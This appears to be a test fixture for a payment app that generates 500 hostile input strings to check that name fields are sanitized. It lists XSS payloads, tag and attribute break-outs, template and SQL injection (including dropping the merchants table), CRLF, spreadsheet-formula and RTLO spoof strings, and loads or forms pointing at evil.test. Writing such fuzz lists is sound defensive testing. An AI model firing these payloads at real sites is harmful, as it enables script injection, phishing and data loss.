// @ts-check
// Texts that try to become markup, scripts, addresses or templates. Each fits into a name of 100 letters.

/** Each of a kind of its own. */
const KINDS = [
  // tags
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '</script><script>alert(2)</script>',
  '</title><script>alert(3)</script>',
  '</textarea><script>alert(4)</script>',
  '</style><script>alert(5)</script>',
  '</noscript><script>alert(6)</script>',
  '</option></select><img src=x onerror=alert(7)>',
  '</template><svg onload=alert(8)>',
  '<img src=x onerror=alert(9)>',
  '<img src=x onerror=alert`10`//',
  '<svg/onload=alert(11)>',
  '<svg><script href=data:,alert(12) />',
  '<svg><animate onbegin=alert(13) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>',
  '<iframe srcdoc="<script>alert(15)</script>"></iframe>',
  '<iframe src=javascript:alert(16)></iframe>',
  '<object data=javascript:alert(17)></object>',
  '<embed src=javascript:alert(18)>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css";*{display:none}</style>',
  '<form action=https://evil.test/><button>Pay</button></form>',
  '<input autofocus onfocus=alert(25)>',
  '<details open ontoggle=alert(26)>',
  '<video><source onerror=alert(27)></video>',
  '<audio src=x onerror=alert(28)>',
  '<body onload=alert(29)>',
  '<marquee onstart=alert(30)>x</marquee>',
  '<a href=javascript:alert(31)>click</a>',
  '<button popovertarget=x onclick=alert(32)>x</button>',
  '<dialog open oncancel=alert(33)>x</dialog>',
  '<confirm-dialog><form data-confirm="<img src=x onerror=alert(34)>">',
  '<slug-field data-from=title><input></slug-field>',
  // attributes
  '" onmouseover="alert(36)',
  "' onmouseover='alert(37)",
  '" autofocus onfocus=alert(38) x="',
  '"><script>alert(39)</script>',
  "'><img src=x onerror=alert(40)>",
  '` onmouseover=alert(41)`',
  '"/><svg onload=alert(42)>',
  ' x onerror=alert(43) y',
  '" style="position:fixed;inset:0;background:red',
  '--><script>alert(45)</script><!--',
  '<!--<img src="--><img src=x onerror=alert(46)//">',
  ']]><script>alert(47)</script>',
  '<![CDATA[<script>alert(48)</script>]]>',
  '<?xml version="1.0"?><script>alert(49)</script>',
  // addresses
  'javascript:alert(50)',
  'JaVaScRiPt:alert(51)//',
  'data:text/html,<script>alert(52)</script>',
  'https://evil.test/"onclick="alert(53)',
  '//evil.test/%0d%0aSet-Cookie:x=1',
  // templates and formats
  '{{constructor.constructor("alert(55)")()}}',
  '${alert(56)}',
  '<%= alert(57) %>{% raw %}',
  '{} {0} %s %n %x',
  '=HYPERLINK("https://evil.test","x")',
  // encodings and letters
  '&lt;script&gt;alert(60)&lt;/script&gt;',
  '&#60;script&#62;alert(61)&#60;/script&#62;',
  '%3Cscript%3Ealert(62)%3C/script%3E',
  '\\u003cscript\\u003ealert(63)\\u003c/script\\u003e',
  '＜script＞alert(64)＜/script＞',
  'ʼ onmouseover=ʼalert(65)',
  'Ș\u0326ț\u0301\u0336 e\u0301 👩‍👩‍👧‍👦 مرحبا 漢字',
  '\u202egnp.exe\u202c\u2066x\u2069',
  '<\u200bscript>alert(68)</\u200bscript>',
  "'; drop table merchants; --",
  "Robert'); delete from payment_links where ('1'='1",
];

/** Ways out of where a text may stand: between tags, in an attribute, in a script, in a comment. */
const WAYS_OUT = [
  '', '">', "'>", '"/>', '`>', '" >', '</p>', '</a>', '</td></tr></table>', '</h1>', '</textarea>', '</title>', '</option></select>', '</script>', '</style>',
  '</iframe>', '</template>', '</svg>', '-->', ']]>', '\\">', '\\x3e', '&quot;>', '"/ / >', '<',
];

/** Ways to be run once out. */
const WAYS_IN = [
  '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<script>alert(1)</script>', '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<style>@import"//evil.test"</style>', '<base href=//evil.test>', '<form action=//evil.test><button>x',
  '<video src=x onerror=alert(1)>', '<math href=javascript:alert(1)>x', '<object data=//evil.test>', '<embed src=//evil.test>', '<link rel=stylesheet href=//evil.test>',
  '<meta http-equiv=refresh content=0;//evil.test>', '<b onpointerenter=alert(1)>x', '<x-x style=animation-name:x onanimationstart=alert(1)>',
];

/** Five hundred texts, none twice. */
export const PAYLOADS = [...new Set([...KINDS, ...WAYS_OUT.flatMap((out) => WAYS_IN.map((way) => `${out}${way}`))])].slice(0, 500);
